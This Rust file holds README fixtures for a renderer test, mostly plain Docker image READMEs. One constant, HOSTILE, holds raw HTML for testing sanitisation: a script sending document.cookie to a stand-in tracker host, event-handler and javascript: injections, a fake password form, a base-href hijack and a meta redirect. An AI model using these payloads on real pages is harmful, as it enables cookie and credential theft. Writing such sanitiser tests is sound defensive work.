//! READMEs: plain ones, and one that tries what a hostile README would try.

/// A README as most are.
pub(super) const WEB: &str = "# web

The storefront of Acme, as one image.

## Run it

```sh
docker run --rm -p 8080:8080 acme/web:latest
```

## Tags

| tag | what it is |
|---|---|
| `latest`, `stable`, `1` | the newest release |
| `1.9`, `1.9.11` | a minor line, a release |
| `2.0.0-rc.6` | what comes next |
| `20261124` | the build of a night |
| `sha-1a2b3c4` | the build of a commit |

## Settings

- `PORT`: where it listens, **8080** if unset
- `CACHE_URL`: a cache, *optional*

> Images are built for `linux/amd64` and `linux/arm64`, with provenance.
";

/// Raw HTML, harmless and not: what is shown of it must be text, a table and a link, and nothing of it may run or load.
pub(super) const HOSTILE: &str = r#"<h1 align="center">docs</h1>
<p align="center"><img src="http://tracker.invalid/pixel.png" width="1" height="1" alt="A picture from elsewhere"></p>

The manual of everything, with **raw HTML** in its README.

<script>document.title = 'owned'; fetch('http://tracker.invalid/steal?c=' + document.cookie)</script>
<iframe src="http://tracker.invalid/frame"></iframe>
<img src="x" onerror="document.body.dataset.owned = 'yes'">
<a href="javascript:document.body.dataset.owned = 'yes'">A link that runs script</a>
<svg onload="document.body.dataset.owned = 'yes'"><circle r="4"/></svg>
<style>body { display: none }</style>
<form action="http://tracker.invalid/form"><input name="password" placeholder="Password"><button>Send</button></form>
<object data="http://tracker.invalid/object"></object>
<base href="http://tracker.invalid/">
<meta http-equiv="refresh" content="0; url=http://tracker.invalid/">

<details><summary>Harmless details</summary>

| language | state |
|---|---|
| English | whole |
| 简体中文 | whole |

</details>

See [the site](https://example.com/docs) and ![a remote picture](http://tracker.invalid/badge.svg).
"#;

/// A short one.
pub(super) const SHORT: &str = "Built every night from `main`. Not for production.\n";

/// In Chinese.
pub(super) const CHINESE: &str = "# 潮汐表

为港口调度提供潮汐预报的服务。

## 使用

```sh
docker run --rm harbourworks/tide-tables --port rotterdam
```

- 支持 `linux/amd64` 与 `linux/arm64`
- 数据每天更新一次
";
